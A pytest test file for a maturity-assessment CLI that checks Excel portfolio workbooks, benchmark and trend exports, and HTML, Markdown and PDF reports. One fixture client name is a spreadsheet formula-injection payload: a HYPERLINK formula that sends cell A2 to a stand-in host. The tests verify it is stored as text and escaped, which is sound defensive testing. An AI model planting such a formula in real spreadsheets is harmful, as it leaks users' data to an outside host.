"""The portfolio pack: the workbook of `score DIR -o portfolio.xlsx`, `benchmark` and `trend` to
files, the cross-client report of `maturity portfolio`, and the index of `report DIR`.

Fixture (mini questionnaire, sub-domains a, b, c): six firms, every requirement up to a top level
"full" and "none" above, so each firm's level, and each sub-domain's score under rule B, is its top
level. Tops 1, 1, 1, 2, 2, 2; "Twice" (top 2) was assessed a year earlier at top 1 as well.
Latest assessments: level 1 x 3, level 2 x 3 -> the national buckets ≤ L1 50 %, L2 50 %, L3 and
≥ L4 hidden (0 firms < 3). Counting the old file too would give 4 of 7 (60 %) and 3 of 7 (40 %).
Plan domain design = sub-domain a: (1 + 1 + 1 + 2 + 2 + 2) / 6 = 1.50.
"""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from maturity.cli import app
from maturity.questionnaire import load_questionnaire
from tests.conftest import MINI, answer_doc, write_yaml

FORMULA = '=HYPERLINK("http://x.example/?"&A2,"x")'
FIRMS: list[tuple[str, int, dict[str, Any]]] = [
    ("Alpha", 1, {}),
    ("Beta", 1, {"size": "medium"}),
    (FORMULA, 1, {}),
    ("Delta", 2, {"tailoring": {"b": "no machining here"}}),
    ("Echo", 2, {}),
    ("Twice", 2, {}),
]


def write_firm(path: Path, name: str, top: int, date: str = "2026-11-20", **extra: Any) -> None:
    q = load_questionnaire(MINI)
    tailoring = extra.pop("tailoring", None)
    answers = {
        r.id: ("full" if r.level <= top else "none")
        for r in q.requirements
        if len(r.applies_to) == 4 and not (tailoring and r.id.split(".")[0] in tailoring)
    }
    doc = answer_doc(q, answers)
    doc["organisation"].update(name=name, industry="toys", **extra)
    doc["assessment"]["date"] = date
    if tailoring:
        doc["tailoring"] = tailoring
    write_yaml(path, doc)


@pytest.fixture
def firms(tmp_path: Path) -> Path:
    folder = tmp_path / "clients"
    folder.mkdir()
    for i, (name, top, extra) in enumerate(FIRMS):
        write_firm(folder / f"firm{i}.yaml", name, top, **extra)
    write_firm(folder / "twice-2025.yaml", "Twice", 1, date="2025-11-20")
    return folder


def run(*args: str | Path, lang: str = "en", jobs: bool = True) -> tuple[int, str, str]:
    more = ["--jobs", "1"] if jobs and args[0] != "trend" else []
    result = CliRunner().invoke(
        app,
        ["--questionnaires", str(MINI), *map(str, args), *more, "--lang", lang],
        env={"COLUMNS": "200"},
    )
    return result.exit_code, result.stdout, result.stderr


def workbook(firms: Path, lang: str = "en") -> tuple[Any, Path]:
    from openpyxl import load_workbook

    out = firms.parent / f"portfolio-{lang}.xlsx"
    code, _, err = run("score", firms, "-o", out, lang=lang)
    assert code == 0, err
    return load_workbook(out), out


def rows_of(ws: Any) -> list[list[Any]]:
    return [[c.value for c in row] for row in ws.iter_rows()]


# --- the workbook ---------------------------------------------------------------------------------


def test_workbook_has_summary_results_heat_map_and_failures(firms: Path) -> None:
    book, _ = workbook(firms)
    assert book.sheetnames == ["Summary", "Results", "Heat map", "Failures"]
    summary = rows_of(book["Summary"])
    # under the title, the cover block: audience, issuer, period, confidentiality
    assert summary[5][0] == "6 organisations (7 assessments; only the latest of each counts)"
    table = {r[0]: r[1] for r in summary if r[0] in ("≤ L1", "L2", "L3", "≥ L4")}
    # a hidden cell shows "–" as in the PDF (empty, it read as 0 %); the chart's title explains it
    assert table == {"≤ L1": 0.5, "L2": 0.5, "L3": "–", "≥ L4": "–"}
    share = next(row for row in book["Summary"].iter_rows() if row[0].value == "≤ L1")[1]
    assert share.number_format == "0%"
    design = next(row for row in book["Summary"].iter_rows() if row[0].value == "Design")
    assert (design[1].value, design[1].number_format, design[2].value) == (1.5, "0.00", 6)


def test_results_sheet_is_formatted(firms: Path) -> None:
    book, _ = workbook(firms)
    ws = book["Results"]
    header = [c.value for c in ws[1]]
    assert ws.freeze_panes == "C2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(row=1, column=len(header)).column_letter}8"
    assert ws.column_dimensions["A"].width == 40 and ws.column_dimensions["B"].width == 24
    assert header[1] == "Organisation" and header[0] == "File"
    score = ws.cell(row=2, column=header.index("Total score") + 1)
    assert isinstance(score.value, int | float) and score.number_format == "0.00"
    # level colours: one rule per level on every level column
    rules = [(str(cf.sqref), r) for cf in ws.conditional_formatting for r in cf.rules]
    level_column = ws.cell(row=1, column=header.index("Maturity level") + 1).column_letter
    on_level = [r for sqref, r in rules if f"{level_column}2:{level_column}8" in sqref.split()]
    assert sorted(r.formula[0] for r in on_level) == ["0", "1", "2", "3", "4", "5"]
    assert on_level[0].dxf.fill.fgColor.rgb.endswith("F4B6B6")


def test_formula_looking_name_stays_text(firms: Path) -> None:
    book, _ = workbook(firms)
    for sheet in ("Results", "Heat map"):
        cells = [row[0] for row in book[sheet].iter_rows() if FORMULA in str(row[1].value)]
        names = [
            c
            for row in book[sheet].iter_rows()
            for c in row
            if c.value == FORMULA and c.data_type == "s"
        ]
        assert names, (sheet, cells)
        assert all(c.data_type != "f" for row in book[sheet].iter_rows() for c in row)


@pytest.mark.parametrize(
    ("lang", "size", "kind", "mode", "sheet"),
    [
        ("en", "Medium-sized", "Discrete manufacturing", "self-assessment", "Results"),
        ("zh", "中型", "离散型", "企业自评估", "评分结果"),
    ],
)
def test_enumerations_are_translated(
    firms: Path, lang: str, size: str, kind: str, mode: str, sheet: str
) -> None:
    book, _ = workbook(firms, lang)
    rows = rows_of(book[sheet])
    beta = next(r for r in rows if r[1] == "Beta")
    assert size in beta and kind in beta and mode in beta
    assert "medium" not in beta or lang == "en"


def test_heat_map_shows_tailored_sub_domains_as_na_text(firms: Path) -> None:
    book, _ = workbook(firms)
    ws = book["Heat map"]
    assert ws.freeze_panes == "C2"
    rows = rows_of(ws)
    assert rows[0] == [
        "Organisation",
        "Maturity level",
        "Sub-domain a",
        "Sub-domain b",
        "Sub-domain c",
    ]
    assert [r[0] for r in rows[1:]] == sorted(r[0] for r in rows[1:])  # latest only: 6, not 7
    delta = next(r for r in rows if r[0] == "Delta")
    assert delta[:4] == ["Delta", 2, 2, "N/A"]
    assert next(r for r in rows if r[0] == "Twice")[1] == 2  # the 2026 file, not 2025's
    scales = [r.type for cf in ws.conditional_formatting for r in cf.rules]
    assert "colorScale" in scales


def test_summary_has_two_native_bar_charts(firms: Path) -> None:
    _, out = workbook(firms)
    with zipfile.ZipFile(out) as z:  # openpyxl does not read charts back: look at the parts
        charts = sorted(n for n in z.namelist() if n.startswith("xl/charts/chart"))
        assert charts == ["xl/charts/chart1.xml", "xl/charts/chart2.xml"]
        first = z.read(charts[0]).decode()
        drawing = z.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    assert "<barChart>" in first and "'Summary'!$B$" in first.replace("&apos;", "'")
    assert "drawing" in drawing


# --- benchmark and trend to files ----------------------------------------------------------------


def test_trend_writes_csv_and_a_formatted_workbook(firms: Path) -> None:
    from openpyxl import load_workbook

    out = firms.parent / "trend.csv"
    code, _, err = run("trend", firms / "twice-2025.yaml", firms / "firm5.yaml", "-o", out)
    assert code == 0, err
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == (
        "Organisation,Organisation id,File,Date,Level,Score,Design,Production,Management,Service,"
        "Supply chain"
    )
    assert [line.split(",")[3:6] for line in lines[1:]] == [
        ["2025-11-20", "1", "1.0"],
        ["2026-11-20", "2", "2.0"],
    ]
    book_path = firms.parent / "trend.xlsx"
    assert run("trend", firms, "-o", book_path, "--min-assessments", "1")[0] == 0
    ws = load_workbook(book_path)["Trend"]
    assert (ws.freeze_panes, ws.auto_filter.ref) == ("B2", "A1:K8")
    assert ws["F2"].number_format == "0.00" and ws["A1"].value == "Organisation"
    assert FORMULA in [c.value for c in ws["A"]]  # as text: openpyxl reads a formula as "=..."
    assert all(c.data_type == "s" for c in ws["A"])


def test_benchmark_writes_a_workbook_and_csv(firms: Path) -> None:
    from openpyxl import load_workbook

    out = firms.parent / "bench.xlsx"
    code, _, err = run("benchmark", firms, "--by", "industry", "-o", out)
    assert code == 0, err
    book = load_workbook(out)
    ws = book["Benchmark"]
    assert [c.value for c in ws[1]][:3] == ["Cohort", "Organisations", "L0"]
    # grouped by industry only, Beta (the only firm with a size) counts: six firms, level 1 x 3
    # and 2 x 3, 50 % each
    assert [c.value for c in ws[2]][:8] == ["toys", 6, "–", 0.6, 0.6, "–", "–", "–"]
    assert ws["E2"].number_format == "0%"
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref == "A1:K2"
    csv_out = firms.parent / "bench.csv"
    assert run("benchmark", firms, "--by", "industry", "-o", csv_out)[0] == 0
    assert csv_out.read_text(encoding="utf-8-sig").splitlines()[1].startswith("toys,6,,60,60,,,,")


def test_a_workbook_needs_an_output_file(firms: Path) -> None:
    code, out, err = run("trend", firms, "-f", "xlsx")
    assert (code, out) == (2, "")
    assert err == (
        "error: the xlsx format needs an output file: give -o FILE (it cannot go to the terminal).\n"
    )


# --- maturity portfolio ---------------------------------------------------------------------------


def test_portfolio_markdown_counts_each_firm_once_by_hand(firms: Path) -> None:
    out = firms.parent / "portfolio.md"
    code, _, err = run("portfolio", firms, "-o", out)
    assert code == 0, err
    text = out.read_text(encoding="utf-8")
    assert "6 organisations (7 assessments; only the latest of each counts)" in text
    assert "| ≤ L1 | 50% | 69% | 63% |\n| L2 | 50% | 15% | 21% |\n| L3 | – | 7% | 12% |" in text
    assert "| Design | 1.50 | 6 |" in text
    assert "| Delta | 2 | 2 | N/A | 2 |" in text  # tailored: N/A, never 0
    # gaps up to the target level 3: L3 missed by all six (b by five: Delta tailored it out);
    # L2 by the three firms at level 1 (counting Twice's 2025 file would make it four)
    gaps = [line for line in text.splitlines() if line.startswith("| `")]
    assert [(g.split("|")[1].strip(" `"), g.split("|")[5].strip()) for g in gaps[:7]] == [
        ("a.3.01", "6 / 6"),
        ("c.3.01", "6 / 6"),
        ("b.3.01", "5 / 6"),
        ("a.2.01", "3 / 6"),
        ("b.2.01", "3 / 6"),
        ("b.2.02", "3 / 6"),
        ("c.2.01", "3 / 6"),
    ]
    # the shared actions: the advice of the common gaps that have one
    assert (
        "| Do c.3.01 | Low | `c.3.01` | 6 |" in text
        and "| Do b.3.01 | High | `b.3.01` | 5 |" in text
    )
    assert "| Twice | 2 | 2.00 | 2026-11-20 | firm5.pdf |" in text


def test_portfolio_html_escapes_client_names_and_links_the_reports(firms: Path) -> None:
    out = firms.parent / "portfolio.html"
    code, _, err = run("portfolio", firms, "-o", out, "--reports", "html", lang="zh")
    assert code == 0, err
    html = out.read_text(encoding="utf-8")
    assert "<h1>智能制造能力成熟度组合报告</h1>" in html
    assert "<td>=HYPERLINK(&#34;http://x.example/?&#34;&amp;A2,&#34;x&#34;)</td>" in html
    assert FORMULA not in html
    assert '<a href="firm3.html">firm3.html</a>' in html
    assert '<td class="num na">不适用</td>' in html
    assert '<td class="num lv2">2</td>' in html


def test_portfolio_pdf_has_the_figures_in_its_text(firms: Path) -> None:
    import shutil
    import subprocess

    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    out = firms.parent / "portfolio.pdf"
    code, _, err = run("portfolio", firms, "-o", out)
    assert code == 0, err
    text = subprocess.run(
        ["pdftotext", "-layout", str(out), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "6 organisations (7 assessments; only the latest of each counts)" in text
    assert "Most common gaps" in text and "Index of the client reports" in text
    info = subprocess.run(["pdfinfo", str(out)], capture_output=True, text=True, check=True).stdout
    pages = int(next(line for line in info.splitlines() if line.startswith("Pages:")).split()[1])
    assert 2 <= pages <= 4  # portrait summary, the landscape heat map, gaps and index
    # the reports are named, not linked: a PDF would resolve a link against the template folder
    assert "firm5.pdf" in text and b"/URI" not in _inflated(out)


def _inflated(pdf: Path) -> bytes:
    """The PDF's bytes with its compressed streams inflated (link annotations hide in them)."""
    import re
    import zlib

    data = pdf.read_bytes()
    parts = [data]
    for stream in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.S):
        try:
            parts.append(zlib.decompress(stream.group(1)))
        except zlib.error:
            continue
    return b"".join(parts)


def test_report_dir_writes_an_escaped_index(firms: Path) -> None:
    out = firms.parent / "reports"
    code, _, err = run("report", firms, "-o", out, "-f", "html")
    assert code == 0, err
    html = (out / "index.html").read_text(encoding="utf-8")
    assert html.count("<tr><td><a href=") == 7  # every report, the 2025 one too
    assert (
        '<tr><td><a href="firm3.html">firm3.html</a></td><td>Delta</td>'
        '<td class="num lv2">2</td><td class="num">2.00</td><td>2026-11-20</td></tr>'
    ) in html
    assert "&#34;x.example" in html.replace("http://", "") and FORMULA not in html
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith("firm")) == [
        "index.html",
        "twice-2025.html",
    ]  # no temporary file left behind


def test_a_report_named_index_does_not_collide_with_the_index(firms: Path) -> None:
    (firms / "firm0.yaml").rename(firms / "index.yaml")
    out = firms.parent / "reports"
    assert run("report", firms, "-o", out, "-f", "html")[0] == 0
    html = (out / "index.html").read_text(encoding="utf-8")
    assert '<a href="index-yaml.html">index-yaml.html</a></td><td>Alpha</td>' in html


def test_a_score_just_under_a_gate_is_not_shown_as_reaching_it(tmp_path: Path) -> None:
    # 0.7979 under a 0.00 format would read "0.80" beside "level not reached": the cell holds the
    # floored value every other output shows (0.79); whole scores and levels are left alone
    from openpyxl import Workbook, load_workbook

    from maturity.excel.sheets import SCORE_FORMAT, Sheet

    book = Workbook(write_only=True)
    sheet = Sheet(book, "t")
    sheet.append([0.7979, 0.8, 2.295833, 1], [SCORE_FORMAT, SCORE_FORMAT, SCORE_FORMAT, None])
    book.save(tmp_path / "t.xlsx")
    row = [c.value for c in next(load_workbook(tmp_path / "t.xlsx")["t"].iter_rows())]
    assert row == [0.79, 0.8, 2.29, 1]


def test_national_buckets_are_named_in_the_readers_language() -> None:
    from maturity.formats.benchmark import BUCKETS, bucket_label

    assert [bucket_label(b, "zh") for b in BUCKETS] == ["一级及以下", "二级", "三级", "四级及以上"]
    assert [bucket_label(b, "en") for b in BUCKETS] == ["≤ L1", "L2", "L3", "≥ L4"]
